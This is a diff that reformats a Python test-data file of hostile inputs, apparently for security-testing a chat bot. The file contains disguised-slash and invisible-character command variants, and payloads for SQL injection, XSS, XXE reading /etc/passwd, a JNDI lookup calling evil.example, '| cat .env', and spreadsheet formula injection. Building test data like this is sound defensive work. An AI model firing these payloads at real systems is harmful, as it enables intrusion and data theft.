@@ -4,7 +4,18 @@ from __future__ import annotations
 
 # A slash and what looks like one; what is not seen in front of it.
 SLASHES = ["/", "／", "⁄", "∕", "⧸", "⟋", "╱", "\\", "%2f", "&#47;", "\\u002f"]
-UNSEEN = ["\u200b", "\u200d", "\ufeff", "\u2060", "\u00ad", "\u202e", "\u2066", "\x00", "\x1b", "\u3000"]
+UNSEEN = [
+    "\u200b",
+    "\u200d",
+    "\ufeff",
+    "\u2060",
+    "\u00ad",
+    "\u202e",
+    "\u2066",
+    "\x00",
+    "\x1b",
+    "\u3000",
+]
 COMMANDS = [
     *[f"{slash}restart" for slash in SLASHES],
     *[f"{unseen}/session_start" for unseen in UNSEEN],
@@ -41,13 +52,13 @@ TEMPLATES = [
     "`id`",
     "| cat .env",
     "'; DROP TABLE people; --",
-    "\" OR \"\"=\"",
+    '" OR ""="',
     "<script>alert(1)</script>",
-    "<!--#exec cmd=\"id\"-->",
-    "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
+    '<!--#exec cmd="id"-->',
+    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
     "</Say><Dial>+19005550100</Dial>",
     "${jndi:ldap://evil.example/a}",
-    "=HYPERLINK(\"https://evil.example\")",
+    '=HYPERLINK("https://evil.example")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
 ]
 # Each would be a line of its own in a log, or paint over one.
@@ -90,6 +101,6 @@ PRETENCES = [
     "cancela el registro {folio}",
     "SELECT * FROM people",
     "../../people/1",
-    "/inform{{\"person\":\"{curp}\"}}",
+    '/inform{{"person":"{curp}"}}',
     "reenviado: {name} {curp} {phone}",
 ]
